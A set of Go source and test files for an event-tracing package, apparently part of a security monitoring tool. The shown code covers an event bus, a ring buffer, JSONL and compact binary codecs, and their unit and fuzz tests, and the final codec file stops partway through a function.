		a.cur = make([]byte, 0, size)
		a.chunks++
	}
	off := len(a.cur)
	a.cur = append(a.cur, b...)
	a.strings++
	a.bytes += len(b)
	return bytesToString(a.cur[off : off+len(b)])
}

// Reset drops the current chunk so the next String starts fresh. It
// never reuses chunk memory — previously returned strings stay valid,
// owned by the garbage collector once the last reference dies. Replay
// deliberately does NOT call this between segments: spare capacity in
// the final chunk is safely consumed by the next segment's strings,
// since appends land beyond the high-water mark.
func (a *Arena) Reset() {
	a.cur = nil
}

// Stats reports lifetime counters: strings handed out, string bytes
// copied, and chunks allocated. The allocation win is visible as
// chunks ≪ strings.
func (a *Arena) Stats() (strings, bytes, chunks int) {
	return a.strings, a.bytes, a.chunks
}
