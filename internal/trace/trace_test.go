package trace

import (
	"bytes"
	"errors"
	"io"
	"strings"
	"sync"
	"testing"
	"time"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func TestBusStampsSequenceAndTime(t *testing.T) {
	clock := NewFakeClock(t0)
	bus := NewBus(clock)
	var got []Event
	bus.Subscribe(SinkFunc(func(e Event) { got = append(got, e) }))
	bus.Emit(Event{Kind: KindHTTP})
	clock.Advance(time.Second)
	bus.Emit(Event{Kind: KindExec})
	if len(got) != 2 {
		t.Fatalf("events = %d", len(got))
	}
	if got[0].Seq != 1 || got[1].Seq != 2 {
		t.Fatalf("seqs = %d %d", got[0].Seq, got[1].Seq)
	}
	if !got[1].Time.Equal(t0.Add(time.Second)) {
		t.Fatalf("time = %v", got[1].Time)
	}
	if bus.Seq() != 2 {
		t.Fatalf("bus seq = %d", bus.Seq())
	}
}

func TestBusPreservesExplicitTime(t *testing.T) {
	bus := NewBus(NewFakeClock(t0))
	var got Event
	bus.Subscribe(SinkFunc(func(e Event) { got = e }))
	custom := t0.Add(42 * time.Minute)
	bus.Emit(Event{Kind: KindAuth, Time: custom})
	if !got.Time.Equal(custom) {
		t.Fatalf("time overwritten: %v", got.Time)
	}
}

func TestBusFanOut(t *testing.T) {
	bus := NewBus(nil)
	var a, b int
	bus.Subscribe(SinkFunc(func(Event) { a++ }))
	bus.Subscribe(SinkFunc(func(Event) { b++ }))
	bus.Emit(Event{})
	bus.Emit(Event{})
	if a != 2 || b != 2 {
		t.Fatalf("fanout = %d %d", a, b)
	}
}

func TestBusConcurrentEmit(t *testing.T) {
	bus := NewBus(nil)
	var mu sync.Mutex
	seen := map[uint64]bool{}
	bus.Subscribe(SinkFunc(func(e Event) {
		mu.Lock()
		seen[e.Seq] = true
		mu.Unlock()
	}))
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				bus.Emit(Event{Kind: KindHTTP})
			}
		}()
	}
	wg.Wait()
	if len(seen) != 800 {
		t.Fatalf("unique seqs = %d, want 800", len(seen))
	}
}

func TestRingEviction(t *testing.T) {
	r := NewRing(4)
	for i := 1; i <= 6; i++ {
		r.Emit(Event{Seq: uint64(i)})
	}
	if r.Len() != 4 || r.Total() != 6 {
		t.Fatalf("len=%d total=%d", r.Len(), r.Total())
	}
	snap := r.Snapshot()
	if snap[0].Seq != 3 || snap[3].Seq != 6 {
		t.Fatalf("snapshot = %+v", snap)
	}
}

func TestRingPartial(t *testing.T) {
	r := NewRing(10)
	r.Emit(Event{Seq: 1})
	r.Emit(Event{Seq: 2})
	snap := r.Snapshot()
	if len(snap) != 2 || snap[0].Seq != 1 {
		t.Fatalf("snapshot = %+v", snap)
	}
}

func TestRingFilter(t *testing.T) {
	r := NewRing(10)
	r.Emit(Event{Kind: KindHTTP})
	r.Emit(Event{Kind: KindExec})
	r.Emit(Event{Kind: KindHTTP})
	got := r.Filter(func(e Event) bool { return e.Kind == KindHTTP })
	if len(got) != 2 {
		t.Fatalf("filtered = %d", len(got))
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w := NewJSONLWriter(&buf)
	events := []Event{
		{Seq: 1, Time: t0, Kind: KindHTTP, Method: "GET", Path: "/api/status", Status: 200, Success: true},
		{Seq: 2, Time: t0.Add(time.Second), Kind: KindExec, Code: "print(1)", User: "alice",
			Fields: map[string]string{"k": "v"}},
	}
	for _, e := range events {
		w.Emit(e)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	back, err := ReadJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 2 || back[1].Field("k") != "v" || back[0].Path != "/api/status" {
		t.Fatalf("back = %+v", back)
	}
}

func TestReadJSONLBadLine(t *testing.T) {
	if _, err := ReadJSONL(strings.NewReader("{\"seq\":1}\nnot json\n")); err == nil {
		t.Fatal("bad line accepted")
	}
}

func TestCloneIsDeep(t *testing.T) {
	e := Event{Fields: map[string]string{"a": "1"}}
	c := e.Clone()
	c.Fields["a"] = "2"
	if e.Fields["a"] != "1" {
		t.Fatal("clone shares fields map")
	}
}

func TestWithField(t *testing.T) {
	e := Event{}
	e2 := e.WithField("rule", "RW-001")
	if e2.Field("rule") != "RW-001" || e.Field("rule") != "" {
		t.Fatal("WithField mutated original or failed")
	}
}

func TestFakeClock(t *testing.T) {
	c := NewFakeClock(t0)
	if !c.Now().Equal(t0) {
		t.Fatal("initial time wrong")
	}
	c.Advance(time.Hour)
	if !c.Now().Equal(t0.Add(time.Hour)) {
		t.Fatal("advance failed")
	}
	c.Set(t0)
	if !c.Now().Equal(t0) {
		t.Fatal("set failed")
	}
}

func TestCountByKind(t *testing.T) {
	events := []Event{{Kind: KindHTTP}, {Kind: KindHTTP}, {Kind: KindExec}}
	m := CountByKind(events)
	if m[KindHTTP] != 2 || m[KindExec] != 1 {
		t.Fatalf("counts = %v", m)
	}
}

func TestEventString(t *testing.T) {
	e := Event{Time: t0, Kind: KindHTTP, Method: "GET", Path: "/x", Status: 200, SrcIP: "10.0.0.1"}
	if !strings.Contains(e.String(), "GET /x") {
		t.Fatalf("string = %q", e.String())
	}
	alert := Event{Time: t0, Kind: KindAlert, Detail: "boom", Fields: map[string]string{"rule": "R1"}}
	if !strings.Contains(alert.String(), "ALERT R1") {
		t.Fatalf("alert string = %q", alert.String())
	}
}

func TestDecoderStreams(t *testing.T) {
	var buf bytes.Buffer
	w := NewJSONLWriter(&buf)
	events := []Event{
		{Seq: 1, Kind: KindHTTP, Path: "/api/status", Time: t0},
		{Seq: 2, Kind: KindExec, User: "alice", Code: "print(1)", Time: t0.Add(time.Second)},
		{Seq: 3, Kind: KindAuth, SrcIP: "10.0.0.9", Time: t0.Add(2 * time.Second)},
	}
	for _, e := range events {
		w.Emit(e)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	d := NewDecoder(strings.NewReader("\n" + buf.String() + "\n"))
	for i, want := range events {
		got, err := d.Next()
		if err != nil {
			t.Fatalf("event %d: %v", i, err)
		}
		if got.Seq != want.Seq || got.Kind != want.Kind || !got.Time.Equal(want.Time) {
			t.Fatalf("event %d: got %+v want %+v", i, got, want)
		}
	}
	if _, err := d.Next(); err != io.EOF {
		t.Fatalf("after last event: err = %v, want io.EOF", err)
	}
	if _, err := d.Next(); err != io.EOF {
		t.Fatalf("repeated Next: err = %v, want io.EOF", err)
	}
}

func TestDecoderBadLineNumbered(t *testing.T) {
	d := NewDecoder(strings.NewReader(`{"kind":"http"}` + "\n" + `{nope` + "\n"))
	if _, err := d.Next(); err != nil {
		t.Fatal(err)
	}
	_, err := d.Next()
	if err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Fatalf("err = %v, want line-2 parse error", err)
	}
}

func TestJSONLWriterErrSticky(t *testing.T) {
	w := NewJSONLWriter(failWriter{})
	if w.Err() != nil {
		t.Fatal("fresh writer reports an error")
	}
	// The bufio layer absorbs small writes; fill past its buffer so
	// the underlying failure surfaces through Emit.
	big := Event{Kind: KindExec, Code: strings.Repeat("x", 128<<10)}
	w.Emit(big)
	if w.Err() == nil {
		t.Fatal("write failure not recorded")
	}
	first := w.Err()
	w.Emit(Event{Kind: KindHTTP})
	if w.Err() != first {
		t.Fatal("sticky error replaced")
	}
	if w.Flush() != first {
		t.Fatal("Flush did not return the sticky error")
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }
