package trace

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// testDict is a minimal intern/lookup pair mirroring evstore's
// per-segment dictionary: sequential references, everything eligible.
type testDict struct {
	refs  map[string]uint64
	names []string
}

func newTestDict() *testDict { return &testDict{refs: map[string]uint64{}} }

func (d *testDict) intern(s string) (uint64, bool) {
	if ref, ok := d.refs[s]; ok {
		return ref, true
	}
	if len(s) == 0 || len(s) > 128 {
		return 0, false
	}
	ref := uint64(len(d.names))
	d.refs[s] = ref
	d.names = append(d.names, s)
	return ref, true
}

func (d *testDict) lookup(ref uint64) (string, bool) {
	if ref >= uint64(len(d.names)) {
		return "", false
	}
	return d.names[ref], true
}

func sampleEvents() []Event {
	at := time.Date(2026, 6, 1, 9, 30, 0, 123456789, time.UTC)
	return []Event{
		{},
		{Seq: 1, Time: at, Kind: KindAuth, SrcIP: "10.0.0.1", SrcPort: 53211, Op: "deny"},
		{Seq: 2, Time: at.In(time.FixedZone("", -7*3600)), Kind: KindExec, User: "alice", Code: "print(1)", Success: true},
		{Seq: 3, Kind: KindFileOp, User: "bob", Op: "write", Target: "notebooks/x.ipynb", Bytes: -42, Entropy: 7.99},
		{Seq: 1 << 62, Kind: KindHTTP, Method: "GET", Path: "/api/contents", Status: 403, Detail: "token missing"},
		{Kind: KindConn, DstIP: "203.0.113.5", DstPort: 443, CPUMillis: 1500,
			Fields: map[string]string{"tenant": "acme", "rule": "SC-01", "": "empty-key"}},
		{Kind: KindSysRes, KernelID: "k-1", Session: "s-1", MsgType: "execute_request",
			Channel: "shell", WSOpcode: "text"},
	}
}

// TestBinaryEventRoundTrip pins the codec's core contract: decoding
// an encoded event yields an event whose JSON form is byte-identical
// to the original's — with and without a dictionary, so interning is
// provably transparent.
func TestBinaryEventRoundTrip(t *testing.T) {
	for i, e := range sampleEvents() {
		want, err := json.Marshal(e)
		if err != nil {
			t.Fatal(err)
		}

		// Dictionary-free encoding.
		body := AppendBinaryEvent(nil, e, InternNone)
		got, err := DecodeBinaryEvent(body, e.Kind, nil)
		if err != nil {
			t.Fatalf("event %d: decode: %v", i, err)
		}
		gotJSON, _ := json.Marshal(got)
		if !bytes.Equal(gotJSON, want) {
			t.Fatalf("event %d inline round trip:\n got %s\nwant %s", i, gotJSON, want)
		}

		// Dictionary encoding must decode to the same event.
		d := newTestDict()
		body = AppendBinaryEvent(nil, e, d.intern)
		got, err = DecodeBinaryEvent(body, e.Kind, d.lookup)
		if err != nil {
			t.Fatalf("event %d: dict decode: %v", i, err)
		}
		gotJSON, _ = json.Marshal(got)
		if !bytes.Equal(gotJSON, want) {
			t.Fatalf("event %d dict round trip:\n got %s\nwant %s", i, gotJSON, want)
		}
	}
}

// TestBinaryEventDictEngages pins that string values actually hit
// the dictionary: a dict-encoded body replaces every eligible string
// with a small reference (so it is smaller than the inline body), and
// re-encoding the same event yields identical bytes — references are
// stable, which is what makes a segment's dictionary reusable.
func TestBinaryEventDictEngages(t *testing.T) {
	e := Event{Seq: 9, Kind: KindFileOp, User: "mallory-rw", Op: "write", Target: "notebooks/exfil.ipynb"}
	d := newTestDict()
	first := AppendBinaryEvent(nil, e, d.intern)
	second := AppendBinaryEvent(nil, e, d.intern)
	if !bytes.Equal(first, second) {
		t.Fatalf("re-encoding with a warm dictionary changed the bytes:\n%x\n%x", first, second)
	}
	inline := AppendBinaryEvent(nil, e, InternNone)
	if len(first) >= len(inline) {
		t.Fatalf("dict body %dB not smaller than inline body %dB; dictionary not engaged", len(first), len(inline))
	}
	if len(d.names) != 3 {
		t.Fatalf("dictionary holds %d entries %v, want the 3 string values", len(d.names), d.names)
	}
}

// TestBinaryStringRoundTrip covers the header helper pair directly,
// including the consumed-byte count the segment reader depends on to
// find the body after peeking kind and actor.
func TestBinaryStringRoundTrip(t *testing.T) {
	d := newTestDict()
	for _, s := range []string{"", "exec", "mallory-rw", string(bytes.Repeat([]byte("x"), 300))} {
		buf := AppendBinaryString(nil, s, d.intern)
		buf = append(buf, "trailing body bytes"...)
		got, n, err := DecodeBinaryString(buf, d.lookup)
		if err != nil {
			t.Fatalf("%q: %v", s, err)
		}
		if got != s {
			t.Fatalf("round trip %q -> %q", s, got)
		}
		if string(buf[n:]) != "trailing body bytes" {
			t.Fatalf("%q: consumed %d bytes, remainder misaligned", s, n)
		}
	}
}

// TestBinaryEventSkipsUnknownFields pins forward compatibility: a
// body carrying field numbers this build has never heard of decodes
// cleanly, with the known fields intact.
func TestBinaryEventSkipsUnknownFields(t *testing.T) {
	e := Event{Seq: 7, Kind: KindExec, User: "alice"}
	body := AppendBinaryEvent(nil, e, InternNone)

	// Splice in future fields of every skippable wire type, then the
	// real tail, so skipping must land exactly on the next tag.
	var future []byte
	future = append(future, byte(29<<3|wireUvarint))
	future = binary.AppendUvarint(future, 12345)
	future = append(future, byte(30<<3|wireString))
	future = AppendBinaryString(future, "from-the-future", InternNone)
	future = append(future, byte(31<<3|wireFlag))
	full := append(future, body...)

	got, err := DecodeBinaryEvent(full, e.Kind, nil)
	if err != nil {
		t.Fatalf("decode with unknown fields: %v", err)
	}
	if got.Seq != 7 || got.User != "alice" {
		t.Fatalf("known fields lost around unknown ones: %+v", got)
	}
}

// TestBinaryEventCorruptInputs pins the error contract: corrupt
// bodies return an error — never a panic, never a partial event.
func TestBinaryEventCorruptInputs(t *testing.T) {
	e := Event{Seq: 5, Kind: KindExec, User: "alice", Target: "t", Fields: map[string]string{"a": "b"}}
	body := AppendBinaryEvent(nil, e, InternNone)
	cases := map[string][]byte{
		"truncated body":    body[:len(body)-2],
		"dangling dict ref": {byte(fUser<<3 | wireString), 0x05},
		"string overrun":    {byte(fUser<<3 | wireString), 0x00, 0xff},
		"huge map count":    {byte(fFields<<3 | wireMap), 0xff, 0xff, 0x03},
		"bad wire type":     {byte(28<<3 | 7)},
		"nanos overflow":    {byte(fTime<<3 | wireTime), 0x00, 0xff, 0xff, 0xff, 0xff, 0x07, 0x00},
	}
	for name, data := range cases {
		if _, err := DecodeBinaryEvent(data, KindExec, nil); err == nil {
			t.Fatalf("%s: corrupt body decoded cleanly", name)
		}
	}
}

// FuzzBinaryCodec is the differential fuzz target: for any event the
// fuzzer can express, the binary round trip must agree byte-for-byte
// (in JSON form) with the JSON round trip — the property that lets v1
// and v2 segments replay identically. Both the dictionary-free and
// dictionary encodings are checked against the same oracle.
func FuzzBinaryCodec(f *testing.F) {
	f.Add(uint64(1), int64(1748768400), int64(123456789), 0, "exec", "10.0.0.1", "alice", "GET", "/api", 403, "print(1)", "write", "nb.ipynb", int64(-9), 3.14, true, "detail", int64(7), "k", "v")
	f.Add(uint64(0), int64(0), int64(0), 0, "", "", "", "", "", 0, "", "", "", int64(0), 0.0, false, "", int64(0), "", "")
	f.Add(^uint64(0), int64(-62135596800), int64(999999999), -7*60, "auth", "::1", "müller", "POST", "/p", -1, "x", "y", "z", int64(1<<40), -0.0, true, "", int64(-5), "key", "")

	f.Fuzz(func(t *testing.T, seq uint64, sec, nanos int64, offMin int,
		kind, srcIP, user, method, path string, status int,
		code, op, target string, byteCount int64, entropy float64, success bool,
		detail string, cpu int64, fieldK, fieldV string) {
		// JSON is lossy on invalid UTF-8 (bytes collapse to U+FFFD on
		// marshal) where the binary codec is byte-faithful; sanitize the
		// inputs so both codecs see what JSON can express and the
		// differential property is exact.
		for _, p := range []*string{&kind, &srcIP, &user, &method, &path, &code, &op, &target, &detail, &fieldK, &fieldV} {
			*p = strings.ToValidUTF8(*p, "�")
		}
		// Constrain the time to what RFC3339 JSON can express: years in
		// range and a whole-minute zone offset (the binary codec keeps
		// second-granularity offsets, JSON cannot).
		sec %= 4_000_000_000
		if sec < 0 {
			sec = -sec
		}
		if nanos < 0 {
			nanos = -nanos
		}
		loc := time.UTC
		if offMin %= 18 * 60; offMin != 0 {
			loc = time.FixedZone("", offMin*60)
		}
		e := Event{
			Seq: seq, Time: time.Unix(sec, nanos%1e9).In(loc), Kind: Kind(kind),
			SrcIP: srcIP, User: user, Method: method, Path: path, Status: status,
			Code: code, Op: op, Target: target, Bytes: byteCount, Entropy: entropy,
			Success: success, Detail: detail, CPUMillis: cpu,
		}
		if fieldK != "" || fieldV != "" {
			e.Fields = map[string]string{fieldK: fieldV}
		}

		// Oracle: the JSON round trip.
		jsonBytes, err := json.Marshal(e)
		if err != nil {
			t.Skip("event not JSON-expressible")
		}
		var viaJSON Event
		if err := json.Unmarshal(jsonBytes, &viaJSON); err != nil {
			t.Fatalf("json round trip: %v", err)
		}
		want, _ := json.Marshal(viaJSON)

		check := func(label string, intern Intern, lookup Lookup) {
			body := AppendBinaryEvent(nil, e, intern)
			viaBinary, err := DecodeBinaryEvent(body, e.Kind, lookup)
			if err != nil {
				t.Fatalf("%s: decode: %v", label, err)
			}
			got, _ := json.Marshal(viaBinary)
			if !bytes.Equal(got, want) {
				t.Fatalf("%s round trip diverged from JSON:\n got %s\nwant %s", label, got, want)
			}
		}
		check("inline", InternNone, nil)
		d := newTestDict()
		check("dict", d.intern, d.lookup)
	})
}
