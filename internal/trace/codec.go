package trace

// Binary event codec: the compact tagged encoding evstore's v2
// segment format carries instead of JSON. JSON stays the interchange
// format everywhere a human or another tool reads the bytes (.jsonl
// files, sidecar indexes, /stats); this codec exists purely so the hot
// append/replay paths stop paying json.Marshal/Unmarshal per event.
//
// Layout: a sequence of (tag, value) pairs, one per populated field,
// terminated by the end of the (length-delimited) buffer. A tag byte
// is fieldNum<<3 | wireType, protobuf-style, so a reader that knows
// the wire types can skip fields it has no name for — the schema can
// grow without a new segment version. Zero-valued fields are omitted,
// mirroring the JSON encoding's omitempty semantics: an event decoded
// from its binary form marshals to the same JSON as one decoded from
// its JSON form.
//
// String values go through an Intern hook so a per-segment dictionary
// (owned by evstore) can replace high-repetition values — users,
// paths, IPs, opcodes — with small references:
//
//	uvarint v:  v == 0 → inline: uvarint length, then raw bytes
//	            v >= 1 → dictionary reference v-1
//
// The event's Kind is NOT part of the body: the segment frame header
// carries it (with the actor key) so a filtered replay can skip the
// body decode entirely for non-matching events.

import (
	"encoding/binary"
	"fmt"
	"math"
	"sort"
	"time"
)

// Wire types, in the low 3 bits of every tag byte. A decoder can skip
// any (even unknown-field) value from the wire type alone.
const (
	wireUvarint = 0 // uvarint
	wireZigzag  = 1 // zigzag-encoded varint (signed)
	wireString  = 2 // uvarint ref-or-0, then inline uvarint len + bytes
	wireFixed64 = 3 // 8 bytes little-endian
	wireTime    = 4 // zigzag seconds, uvarint nanos, zigzag zone offset
	wireMap     = 5 // uvarint count, then count × (string key, string value)
	wireFlag    = 6 // no payload; presence means true
)

// Field numbers. Append-only: a number is never reused or retyped, so
// old readers skip fields added by newer writers.
const (
	fSeq       = 1  // uvarint
	fTime      = 2  // time
	fSrcIP     = 3  // string
	fSrcPort   = 4  // zigzag
	fDstIP     = 5  // string
	fDstPort   = 6  // zigzag
	fUser      = 7  // string
	fSession   = 8  // string
	fMethod    = 9  // string
	fPath      = 10 // string
	fStatus    = 11 // zigzag
	fWSOpcode  = 12 // string
	fMsgType   = 13 // string
	fChannel   = 14 // string
	fKernelID  = 15 // string
	fCode      = 16 // string
	fOp        = 17 // string
	fTarget    = 18 // string
	fBytes     = 19 // zigzag
	fEntropy   = 20 // fixed64
	fSuccess   = 21 // flag
	fDetail    = 22 // string
	fCPUMillis = 23 // zigzag
	fFields    = 24 // map
)

// Intern maps a string value to a dictionary reference. ok == false
// means "encode inline" — the callback owns the policy (too long, too
// rare, dictionary full). The zero-alloc fast path is ok == true for
// a string the dictionary already holds.
type Intern func(s string) (ref uint64, ok bool)

// Lookup resolves a dictionary reference written by the matching
// Intern. ok == false marks the reference dangling, which a decoder
// must treat as corruption, never as an empty string.
type Lookup func(ref uint64) (s string, ok bool)

// InternNone inlines every string — the dictionary-free encoding.
var InternNone Intern = func(string) (uint64, bool) { return 0, false }

func tag(field, wire int) byte { return byte(field<<3 | wire) }

func appendZigzag(dst []byte, v int64) []byte {
	return binary.AppendUvarint(dst, uint64(v<<1)^uint64(v>>63))
}

// AppendBinaryString appends one ref-or-inline string value — the
// same encoding string fields use inside a body. Exported because the
// v2 frame header (kind + actor key) is built from it too.
func AppendBinaryString(dst []byte, s string, intern Intern) []byte {
	if ref, ok := intern(s); ok {
		return binary.AppendUvarint(dst, ref+1)
	}
	dst = append(dst, 0)
	dst = binary.AppendUvarint(dst, uint64(len(s)))
	return append(dst, s...)
}

// DecodeBinaryString decodes one ref-or-inline string value from the
// front of data, returning the string and how many bytes it consumed.
// The counterpart of AppendBinaryString, used by the segment reader to
// peek a v2 frame's kind and actor key without decoding the body.
func DecodeBinaryString(data []byte, lookup Lookup) (string, int, error) {
	return DecodeBinaryStringArena(data, lookup, nil)
}

// DecodeBinaryStringArena is DecodeBinaryString with an optional
// arena: when arena is non-nil an inline value is copied into it
// instead of heap-allocated on its own. Dictionary references return
// the dictionary's string either way.
func DecodeBinaryStringArena(data []byte, lookup Lookup, arena *Arena) (string, int, error) {
	r := &binReader{data: data, arena: arena}
	s := r.string(lookup)
	if r.err != nil {
		return "", 0, r.err
	}
	return s, r.pos, nil
}

// appendStringField emits nothing for "", matching JSON omitempty.
func appendStringField(dst []byte, field int, s string, intern Intern) []byte {
	if s == "" {
		return dst
	}
	dst = append(dst, tag(field, wireString))
	return AppendBinaryString(dst, s, intern)
}

func appendZigzagField(dst []byte, field int, v int64) []byte {
	if v == 0 {
		return dst
	}
	dst = append(dst, tag(field, wireZigzag))
	return appendZigzag(dst, v)
}

// AppendBinaryEvent appends the binary body of e to dst and returns
// the extended slice. The Kind is deliberately excluded — the caller
// (the segment writer) stores it in the frame header for push-down.
// Encoding is deterministic: map fields are emitted in sorted key
// order, so identical events produce identical bytes.
func AppendBinaryEvent(dst []byte, e Event, intern Intern) []byte {
	if intern == nil {
		intern = InternNone
	}
	if e.Seq != 0 {
		dst = append(dst, tag(fSeq, wireUvarint))
		dst = binary.AppendUvarint(dst, e.Seq)
	}
	if !e.Time.IsZero() {
		_, off := e.Time.Zone()
		dst = append(dst, tag(fTime, wireTime))
		dst = appendZigzag(dst, e.Time.Unix())
		dst = binary.AppendUvarint(dst, uint64(e.Time.Nanosecond()))
		dst = appendZigzag(dst, int64(off))
	}
	dst = appendStringField(dst, fSrcIP, e.SrcIP, intern)
	dst = appendZigzagField(dst, fSrcPort, int64(e.SrcPort))
	dst = appendStringField(dst, fDstIP, e.DstIP, intern)
	dst = appendZigzagField(dst, fDstPort, int64(e.DstPort))
	dst = appendStringField(dst, fUser, e.User, intern)
	dst = appendStringField(dst, fSession, e.Session, intern)
	dst = appendStringField(dst, fMethod, e.Method, intern)
	dst = appendStringField(dst, fPath, e.Path, intern)
	dst = appendZigzagField(dst, fStatus, int64(e.Status))
	dst = appendStringField(dst, fWSOpcode, e.WSOpcode, intern)
	dst = appendStringField(dst, fMsgType, e.MsgType, intern)
	dst = appendStringField(dst, fChannel, e.Channel, intern)
	dst = appendStringField(dst, fKernelID, e.KernelID, intern)
	dst = appendStringField(dst, fCode, e.Code, intern)
	dst = appendStringField(dst, fOp, e.Op, intern)
	dst = appendStringField(dst, fTarget, e.Target, intern)
	dst = appendZigzagField(dst, fBytes, e.Bytes)
	if e.Entropy != 0 {
		dst = append(dst, tag(fEntropy, wireFixed64))
		dst = binary.LittleEndian.AppendUint64(dst, math.Float64bits(e.Entropy))
	}
	if e.Success {
		dst = append(dst, tag(fSuccess, wireFlag))
	}
	dst = appendStringField(dst, fDetail, e.Detail, intern)
	dst = appendZigzagField(dst, fCPUMillis, e.CPUMillis)
	if len(e.Fields) > 0 {
		dst = append(dst, tag(fFields, wireMap))
		dst = binary.AppendUvarint(dst, uint64(len(e.Fields)))
		keys := make([]string, 0, len(e.Fields))
		for k := range e.Fields {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			dst = AppendBinaryString(dst, k, intern)
			dst = AppendBinaryString(dst, e.Fields[k], intern)
		}
	}
	return dst
}

// binReader walks a binary body with explicit bounds checks; every
// read either succeeds or latches an error, so corrupt input can
// never panic or over-read. When arena is non-nil, inline strings are
// copied into it instead of individually heap-allocated.
type binReader struct {
	data  []byte
	pos   int
	err   error
	arena *Arena
}

func (r *binReader) fail(format string, args ...any) {
	if r.err == nil {
		r.err = fmt.Errorf(format, args...)
	}
}

func (r *binReader) done() bool { return r.err != nil || r.pos >= len(r.data) }

func (r *binReader) byte() byte {
	if r.err != nil {
		return 0
	}
	if r.pos >= len(r.data) {
		r.fail("trace: binary event truncated")
		return 0
	}
	b := r.data[r.pos]
	r.pos++
	return b
}

func (r *binReader) uvarint() uint64 {
	if r.err != nil {
		return 0
	}
	v, n := binary.Uvarint(r.data[r.pos:])
	if n <= 0 {
		r.fail("trace: bad varint at byte %d", r.pos)
		return 0
	}
	r.pos += n
	return v
}

func (r *binReader) zigzag() int64 {
	v := r.uvarint()
	return int64(v>>1) ^ -int64(v&1)
}

func (r *binReader) fixed64() uint64 {
	if r.err != nil {
		return 0
	}
	if r.pos+8 > len(r.data) {
		r.fail("trace: binary event truncated")
		return 0
	}
	v := binary.LittleEndian.Uint64(r.data[r.pos:])
	r.pos += 8
	return v
}

func (r *binReader) string(lookup Lookup) string {
	v := r.uvarint()
	if r.err != nil {
		return ""
	}
	if v > 0 {
		s, ok := lookup(v - 1)
		if !ok {
			r.fail("trace: dangling dictionary reference %d", v-1)
			return ""
		}
		return s
	}
	n := r.uvarint()
	if r.err != nil {
		return ""
	}
	if n > uint64(len(r.data)-r.pos) {
		r.fail("trace: string of %d bytes overruns body", n)
		return ""
	}
	var s string
	if r.arena != nil {
		s = r.arena.String(r.data[r.pos : r.pos+int(n)])
	} else {
		s = string(r.data[r.pos : r.pos+int(n)])
	}
	r.pos += int(n)
	return s
}

func (r *binReader) time() time.Time {
	sec := r.zigzag()
	nanos := r.uvarint()
	off := r.zigzag()
	if r.err != nil {
		return time.Time{}
	}
	if nanos >= 1e9 {
		r.fail("trace: nanoseconds %d out of range", nanos)
		return time.Time{}
	}
	loc := time.UTC
	if off != 0 {
		if off < -18*3600 || off > 18*3600 {
			r.fail("trace: zone offset %d out of range", off)
			return time.Time{}
		}
		loc = time.FixedZone("", int(off))
	}
	return time.Unix(sec, int64(nanos)).In(loc)
}

// skip consumes one value of the given wire type without interpreting
// it — the forward-compatibility path for field numbers this build
// does not know.
func (r *binReader) skip(wire int, lookup Lookup) {
	switch wire {
	case wireUvarint, wireZigzag:
		r.uvarint()
	case wireString:
		r.string(lookup)
	case wireFixed64:
		r.fixed64()
	case wireTime:
		r.uvarint()
		r.uvarint()
		r.uvarint()
	case wireMap:
		n := r.uvarint()
		if n > uint64(len(r.data)-r.pos) {
			r.fail("trace: map of %d entries overruns body", n)
			return
		}
		for i := uint64(0); i < n && r.err == nil; i++ {
			r.string(lookup)
			r.string(lookup)
		}
	case wireFlag:
		// no payload
	default:
		r.fail("trace: unknown wire type %d", wire)
	}
}

// DecodeBinaryEvent decodes a body produced by AppendBinaryEvent. The
// kind comes from the frame header; lookup resolves dictionary
// references (nil is valid only for bodies encoded with InternNone).
// Corrupt input returns an error — never a panic, never a partial
// event presented as complete.
func DecodeBinaryEvent(data []byte, kind Kind, lookup Lookup) (Event, error) {
	return DecodeBinaryEventArena(data, kind, lookup, nil)
}

// DecodeBinaryEventArena is DecodeBinaryEvent with an optional arena:
// when arena is non-nil, every inline string field (including map
// keys and values) is copied into the arena instead of individually
// heap-allocated, so decoding a segment's worth of events costs
// O(chunks) string allocations. Strings resolved through lookup are
// shared by reference, not re-copied — the segment dictionary already
// materialized them once. nil arena is byte-for-byte identical to
// DecodeBinaryEvent.
func DecodeBinaryEventArena(data []byte, kind Kind, lookup Lookup, arena *Arena) (Event, error) {
	if lookup == nil {
		lookup = func(uint64) (string, bool) { return "", false }
	}
	e := Event{Kind: kind}
	r := &binReader{data: data, arena: arena}
	for !r.done() {
		t := r.byte()
		field, wire := int(t>>3), int(t&7)
		switch field {
		case fSeq:
			e.Seq = r.uvarint()
		case fTime:
			e.Time = r.time()
		case fSrcIP:
			e.SrcIP = r.string(lookup)
		case fSrcPort:
			e.SrcPort = int(r.zigzag())
		case fDstIP:
			e.DstIP = r.string(lookup)
		case fDstPort:
			e.DstPort = int(r.zigzag())
		case fUser:
			e.User = r.string(lookup)
		case fSession:
			e.Session = r.string(lookup)
		case fMethod:
			e.Method = r.string(lookup)
		case fPath:
			e.Path = r.string(lookup)
		case fStatus:
			e.Status = int(r.zigzag())
		case fWSOpcode:
			e.WSOpcode = r.string(lookup)
		case fMsgType:
			e.MsgType = r.string(lookup)
		case fChannel:
			e.Channel = r.string(lookup)
		case fKernelID:
			e.KernelID = r.string(lookup)
		case fCode:
			e.Code = r.string(lookup)
		case fOp:
			e.Op = r.string(lookup)
		case fTarget:
			e.Target = r.string(lookup)
		case fBytes:
			e.Bytes = r.zigzag()
		case fEntropy:
			e.Entropy = math.Float64frombits(r.fixed64())
		case fSuccess:
			e.Success = true
		case fDetail:
			e.Detail = r.string(lookup)
		case fCPUMillis:
			e.CPUMillis = r.zigzag()
		case fFields:
			n := r.uvarint()
			if r.err != nil {
				break
			}
			// Each entry needs at least two bytes on the wire; a count
			// beyond that is corruption, not a huge map.
			if n > uint64(len(r.data)-r.pos) {
				r.fail("trace: map of %d entries overruns body", n)
				break
			}
			m := make(map[string]string, n)
			for i := uint64(0); i < n && r.err == nil; i++ {
				k := r.string(lookup)
				m[k] = r.string(lookup)
			}
